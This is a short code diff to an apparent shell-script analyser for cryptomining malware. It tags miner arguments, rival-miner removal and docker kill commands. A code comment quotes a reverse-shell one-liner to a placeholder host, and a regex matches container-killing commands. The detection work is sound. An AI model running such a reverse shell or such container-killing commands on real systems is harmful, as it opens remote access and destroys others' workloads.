@@ -171,7 +171,8 @@ export function minerArgs(argv: string[], iv: IntelView): MinerArgs | undefined 
 export function rolesOf(s: Statement, iv: IntelView): Role[] {
   const roles: Role[] = [];
   const names = s.cmds.map((c) => base(c.argv[0] ?? '').toLowerCase());
-  const all = s.text;
+  // Redirect targets belong to the act too (`bash -i >& /dev/tcp/h/p 0>&1`).
+  const all = [s.text, ...s.redirects.filter((r) => r.op !== '<').map((r) => r.target)].join(' ');
   const bodies = s.redirects.map((r) => r.body ?? '').join('\n');
   const targets = s.redirects.filter((r) => r.op !== '<').map((r) => r.target);
   // Rival removal first: its pools and wallets are the competitor's.
@@ -210,6 +211,7 @@ export function rolesOf(s: Statement, iv: IntelView): Role[] {
     }
   }
   if (
+    !roles.some((r) => r.kind === 'rival' && r.how === 'container') &&
     names.includes('docker') &&
     /\bdocker\s+(?:rm|kill|stop|rmi)\b|xargs\s+(?:-\S+\s+)*docker\s+(?:rm|kill|stop|rmi)/.test(all)
   ) {
